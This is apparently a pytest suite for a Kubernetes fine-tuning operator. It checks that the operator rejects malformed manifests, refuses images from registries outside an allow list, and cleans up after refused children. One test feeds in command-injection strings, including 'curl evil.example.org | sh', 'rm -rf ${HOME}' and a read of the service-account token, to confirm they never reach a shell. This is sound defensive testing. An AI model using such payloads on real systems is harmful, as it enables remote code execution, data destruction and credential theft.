"""Bad and hostile input on the real API server and through the real operator.

tests/api/test_crd_server.py already sends 26 malformed manifests (types, ranges, enums, CEL rules, unknown fields, an
oversized model source, a 60-character name, an inline secret, a Secret in another namespace) to the real server.
Here: the cases it lacks (cross-namespace PVC forms, oversized strings in other fields, MaxItems+1, the name limit
at +1 and the name exactly at the limit running end to end), shell metacharacters everywhere a user can put text,
and images outside the allowed registries; and the safety net behind admission: a child the API server refuses (422)
fails the job at once and leaves nothing behind.
"""

from __future__ import annotations

import contextlib
import copy
import uuid
from collections.abc import Iterator
from typing import Any

import pytest
import yaml

from finetune_api.manifest import validate_document
from tests.api.test_manifests import mutate
from tests.controlplane.cluster import ApiError, ControlPlane
from tests.faults.conftest import StartOperator
from tests.faults.support import ftj_events, metric, passes
from tests.operator.cluster_support import (
    ALLOWED_REGISTRIES,
    FTJ,
    condition,
    create_ftj,
    get_ftj,
    get_or_none,
    jobs_of,
    wait_phase,
)
from tests.operator.helpers import manifest

pytestmark = pytest.mark.cluster

NAME_LIMIT = 52  # the longest FineTuneJob name whose children (<name>-progress, pod <name>-<i>-<5>) stay valid


S3 = {"accessKeyId": {"name": "s3", "key": "id"}, "secretAccessKey": {"name": "s3", "key": "secret"}}
# (id, manifest, the field the message must name, words the message must contain)
MALFORMED: list[tuple[str, dict[str, Any], str, str]] = [
    ("pvc claim with a namespace suffix", mutate("spec.dataset.train", "pvc://data.other-team/train.jsonl"),
     "dataset.train", "own namespace"),
    ("pvc claim with a namespace prefix", mutate("spec.output.storage", "pvc://other-team:runs/out"),
     "output.storage", "own namespace"),
    ("pvc path escaping the claim name", mutate("spec.model.source", "pvc://../other-team/models"), "model.source",
     "pvc://<claim-name>"),
    ("s3 secret in another namespace", mutate("spec.credentials", {"s3": {**S3, "accessKeyId": {
        "name": "s3", "key": "id", "namespace": "other-team"}}}), "spec.credentials.s3.accessKeyId.namespace",
     "unknown field"),
    ("secret name with a namespace path", mutate("spec.credentials", {"hubToken": {"name": "other-team/hf",
                                                                                  "key": "token"}}),
     "spec.credentials.hubToken.name", "should match"),
    ("oversized label", mutate("spec.task.labels", ["neg", "p" * 129]), "spec.task.labels[1]", "128"),
    ("labels MaxItems+1", mutate("spec.task.labels", [f"l{i}" for i in range(1001)]), "spec.task.labels",
     "1000"),
    ("oversized image", mutate("spec.resources.image", "registry.example.com/" + "i" * 500), "spec.resources.image",
     "512"),
    ("oversized priority class", mutate("spec.resources.priorityClassName", "p" * 254),
     "spec.resources.priorityClassName", "253"),
    ("oversized node selector value", mutate("spec.resources.nodeSelector", {"pool": "v" * 64}),
     "spec.resources.nodeSelector.pool", "63"),
    ("oversized column name", mutate("spec.dataset.columns", {"text": "c" * 257}), "spec.dataset.columns.text",
     "256"),
    ("oversized queue name", mutate("spec.runPolicy.queueName", "q" * 64), "spec.runPolicy.queueName", "63"),
    ("oversized output path", mutate("spec.output.storage", "s3://bucket/" + "o" * 1100), "spec.output.storage",
     "1024"),
    ("name one over the child-name limit", mutate("metadata.name", "n" * (NAME_LIMIT + 1)), "metadata.name",
     f"at most {NAME_LIMIT} characters"),
]


@pytest.fixture(scope="module")
def shared_namespace(control_plane: ControlPlane, finetune_crd: None) -> Iterator[str]:
    """One namespace for the rejection cases: nothing is ever created in it, so nothing can leak between them."""
    name = f"malformed-{uuid.uuid4().hex[:6]}"
    control_plane.create_namespace(name)
    yield name
    control_plane.delete_namespace(name)


@pytest.mark.parametrize(("doc", "field", "words"), [m[1:] for m in MALFORMED], ids=[m[0] for m in MALFORMED])
def test_malformed_manifest_is_rejected_naming_the_field(control_plane: ControlPlane, shared_namespace: str,
                                                         doc: dict[str, Any], field: str, words: str) -> None:
    cp, ns = control_plane, shared_namespace
    assert validate_document(copy.deepcopy(doc))[0] is None, "finetune validate accepts what the server rejects"
    with pytest.raises(ApiError) as err:
        cp.request("POST", f"{FTJ}/namespaces/{ns}/finetunejobs?fieldValidation=Strict", doc)
    assert err.value.status in (400, 422), err.value.body
    message = err.value.body["message"]
    assert field in message and words in message, message
    assert cp.request("GET", f"{FTJ}/namespaces/{ns}/finetunejobs")["items"] == []
    assert cp.request("GET", f"/apis/batch/v1/namespaces/{ns}/jobs")["items"] == []


def test_name_exactly_at_the_limit_runs_and_every_child_name_is_valid(
        control_plane: ControlPlane, namespace: str, start_operator: StartOperator) -> None:
    cp = control_plane
    start_operator()
    name = "n" * NAME_LIMIT
    create_ftj(cp, manifest(name, namespace, resources={"workers": 2, "gpusPerWorker": 1}))
    wait_phase(cp, namespace, name, "Running", timeout=30)
    for path in (f"/apis/batch/v1/namespaces/{namespace}/jobs/{name}",
                 f"/api/v1/namespaces/{namespace}/services/{name}",
                 f"/api/v1/namespaces/{namespace}/configmaps/{name}-config",
                 f"/api/v1/namespaces/{namespace}/secrets/{name}-progress"):
        assert get_or_none(cp, path) is not None, path
    pods = cp.request("GET", f"/api/v1/namespaces/{namespace}/pods")["items"]
    assert len(pods) == 2 and all(len(p["metadata"]["name"]) <= 63 for p in pods)
    assert {p["spec"]["hostname"] for p in pods} == {f"{name}-0", f"{name}-1"}


HOSTILE = {
    "model": "org/model;$(touch /tmp/pwned)`id`|&>x",
    "train": "pvc://data/$(reboot);rm -rf ${HOME} 'q\"|*.jsonl",
    "validation": "s3://bucket/v && curl evil.example.org | sh #.jsonl",
    "output": "s3://bucket/out dir/$PATH;`shutdown`",
    "label": "$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)",
    "column": "text; echo ${FINETUNE_PROGRESS_TOKEN}",
}


@pytest.mark.parametrize("workers", [1, 2], ids=["single-process", "torchrun"])
def test_shell_metacharacters_reach_no_shell(control_plane: ControlPlane, namespace: str,
                                             start_operator: StartOperator, workers: int) -> None:
    """User text only ever lands in the ConfigMap, as YAML data; the container runs an exec array that holds no user
    value, so no shell (and no $(VAR) expansion by the kubelet) ever sees it."""
    cp = control_plane
    start_operator()
    spec_overrides = {
        "model": {"source": HOSTILE["model"]},
        "dataset": {"train": HOSTILE["train"], "validation": HOSTILE["validation"],
                    "columns": {"text": HOSTILE["column"]}},
        "output": {"storage": HOSTILE["output"]},
        "task": {"type": "sequence-classification", "labels": ["neg", HOSTILE["label"]]},
        "resources": {"workers": workers, "gpusPerWorker": 1},
    }
    create_ftj(cp, manifest("hostile", namespace, **spec_overrides))
    # The claim "data" does not exist, so the pods stay unschedulable: what matters is what was built.
    wait_phase(cp, namespace, "hostile", "Pending", timeout=30, reason=("Running", "Unschedulable"))

    job = cp.request("GET", f"/apis/batch/v1/namespaces/{namespace}/jobs/hostile")
    pods = cp.request("GET", f"/api/v1/namespaces/{namespace}/pods")["items"]
    for pod_spec in [job["spec"]["template"]["spec"], *(p["spec"] for p in pods)]:
        [container] = pod_spec["containers"]
        argv = container["command"] + container.get("args", [])
        assert not {"sh", "bash", "/bin/sh", "/bin/bash", "-c"} & set(argv), argv
        assert argv[0] in ("python", "torchrun") and argv[-1] == "/etc/finetune/job.yaml", argv
        values = argv + [e.get("value", "") for e in container["env"]]
        values += [m["mountPath"] for m in container["volumeMounts"]]
        for text in values:
            assert not any(h in text for h in HOSTILE.values()), text
            assert not any(ch in text for ch in ";`|&'\"") or text.startswith("http"), text
        claims = [v["persistentVolumeClaim"]["claimName"] for v in pod_spec["volumes"] if "persistentVolumeClaim" in v]
        assert claims == ["data"], "the claim is the pvc:// host part, in the job's own namespace"

    cm = cp.request("GET", f"/api/v1/namespaces/{namespace}/configmaps/hostile-config")
    spec = yaml.safe_load(cm["data"]["job.yaml"])["spec"]
    assert spec["model"]["source"] == HOSTILE["model"]
    assert spec["dataset"]["train"] == HOSTILE["train"] and spec["dataset"]["validation"] == HOSTILE["validation"]
    assert spec["dataset"]["columns"]["text"] == HOSTILE["column"]
    assert spec["output"]["storage"] == HOSTILE["output"] and spec["task"]["labels"][1] == HOSTILE["label"]


REFUSED_IMAGES = [
    "registry.example.com.evil.org/trainer:1",  # allowed name as a prefix of another host
    "evil.org/registry.example.com/trainer:1",  # allowed name as a path on another host
    "ghcr.io/finetune-operator-evil/trainer:1",  # allowed org as a prefix of another org
    "ghcr.io/evil/finetune-operator:1",
    "localhost/registry.example.com/trainer:1",
    "registry.example.com@sha256:" + "a" * 64,  # a docker.io image named like the registry
    "trainer:1",  # docker.io/library/trainer
    "registry.example.com:5000/trainer:1",  # the allowed host on another port: another registry
]


def test_images_outside_the_allowed_registries_are_refused(control_plane: ControlPlane, namespace: str,
                                                           start_operator: StartOperator) -> None:
    cp = control_plane
    start_operator()
    assert ALLOWED_REGISTRIES == "registry.example.com,ghcr.io/finetune-operator"
    for i, image in enumerate(REFUSED_IMAGES):
        create_ftj(cp, manifest(f"refused-{i}", namespace, merge_resources={"image": image}))
    create_ftj(cp, manifest("allowed", namespace, merge_resources={"image": "registry.example.com/team/trainer:2"}))
    for i, image in enumerate(REFUSED_IMAGES):
        ftj = wait_phase(cp, namespace, f"refused-{i}", "Failed", reason=("Failed", "InvalidSpec"))
        message = condition(ftj, "Failed")["message"]  # type: ignore[index]
        assert f"spec.resources.image {image!r} is not in an allowed registry" in message, message
        assert get_or_none(cp, f"/api/v1/namespaces/{namespace}/configmaps/refused-{i}-config") is None
    wait_phase(cp, namespace, "allowed", "Running")
    [job] = jobs_of(cp, namespace)
    assert job["metadata"]["name"] == "allowed"
    assert job["spec"]["template"]["spec"]["containers"][0]["image"] == "registry.example.com/team/trainer:2"


ADMISSION = "/apis/admissionregistration.k8s.io/v1"


@contextlib.contextmanager
def refusing_policy(cp: ControlPlane, namespace: str, resource: str) -> Iterator[str]:
    """A ValidatingAdmissionPolicy (the API server's own admission, answering 422 Invalid) refusing every `resource`
    the operator makes in `namespace`: a child the server refuses, as a platform policy or a Job's own validation
    would. Yields the policy's message; removed afterwards."""
    name = f"refuse-{resource}-{uuid.uuid4().hex[:6]}"
    message = f"test policy: no FineTuneJob {resource} in this namespace"
    cp.request("POST", f"{ADMISSION}/validatingadmissionpolicies", {
        "apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingAdmissionPolicy",
        "metadata": {"name": name},
        "spec": {"failurePolicy": "Fail",
                 "matchConstraints": {"resourceRules": [{"apiGroups": ["", "batch"], "apiVersions": ["v1"],
                                                         "operations": ["CREATE"], "resources": [resource]}]},
                 "validations": [{"expression": "!has(object.metadata.labels) || "
                                                "!('finetune.dev/job-name' in object.metadata.labels)",
                                  "message": message, "reason": "Invalid"}]}})
    cp.request("POST", f"{ADMISSION}/validatingadmissionpolicybindings", {
        "apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingAdmissionPolicyBinding",
        "metadata": {"name": name},
        "spec": {"policyName": name, "validationActions": ["Deny"],
                 "matchResources": {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": namespace}}}}})
    probe = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "probe", "labels": {
        "finetune.dev/job-name": "probe"}}}
    if resource == "jobs":
        probe = {"apiVersion": "batch/v1", "kind": "Job", "metadata": probe["metadata"], "spec": {"template": {"spec": {
            "restartPolicy": "Never", "containers": [{"name": "c", "image": "registry.example.com/c:1"}]}}}}
    group = "/apis/batch/v1" if resource == "jobs" else "/api/v1"

    def in_force() -> bool:
        try:
            cp.request("POST", f"{group}/namespaces/{namespace}/{resource}?dryRun=All", probe)
        except ApiError as exc:
            return exc.status == 422
        return False

    try:
        cp.wait_for(in_force, timeout=30, desc=f"policy {name} in force")
        yield message
    finally:
        for kind in ("validatingadmissionpolicybindings", "validatingadmissionpolicies"):
            with contextlib.suppress(ApiError):
                cp.request("DELETE", f"{ADMISSION}/{kind}/{name}")


@pytest.mark.parametrize(("resource", "kind"), [("jobs", "Job"), ("configmaps", "ConfigMap")])
def test_a_child_the_server_refuses_fails_the_job_at_once_and_leaves_nothing(
        control_plane: ControlPlane, namespace: str, start_operator: StartOperator, resource: str, kind: str) -> None:
    """Issue 12's safety net, on the real API server: a 422 on any child is Failed/InvalidSpec with the server's
    message and one Warning Event, is never retried, and what was created for the job (the ConfigMap and the Secret
    it owns, the rendezvous Service of this two-pod job) is removed."""
    cp = control_plane
    with refusing_policy(cp, namespace, resource) as policy_message:
        op = start_operator()
        create_ftj(cp, manifest("refused", namespace, resources={"workers": 2, "gpusPerWorker": 1}))
        ftj = wait_phase(cp, namespace, "refused", "Failed", reason=("Failed", "InvalidSpec"))
        message = condition(ftj, "Failed")["message"]  # type: ignore[index]
        assert message.startswith(f"the API server refused the {kind} built from this spec: ")
        assert policy_message in message, message
        events = ftj_events(cp, namespace, "refused", after="InvalidSpec")
        selector = "labelSelector=finetune.dev%2Fjob-name%3Drefused"
        for path in ("/api/v1/namespaces/{ns}/configmaps", "/api/v1/namespaces/{ns}/services",
                     "/api/v1/namespaces/{ns}/secrets", "/apis/batch/v1/namespaces/{ns}/jobs"):
            url = f"{path.format(ns=namespace)}?{selector}"
            cp.wait_for(lambda url=url: cp.request("GET", url)["items"] == [], timeout=30, desc=f"nothing at {url}")
        # Nothing is retried: two resyncs later (3 s each here) still one create of the refused kind, one Event.
        passes_then = passes(op)
        cp.wait_for(lambda: passes(op) >= passes_then + 2, timeout=30, desc="two more passes")
        assert metric(op, "finetune_operator_api_requests_total", verb="POST", resource=kind) == 1
        events = ftj_events(cp, namespace, "refused")
        assert [(e["type"], e["reason"]) for e in events] == [("Warning", "InvalidSpec")]
        assert get_ftj(cp, namespace, "refused")["status"] == ftj["status"]
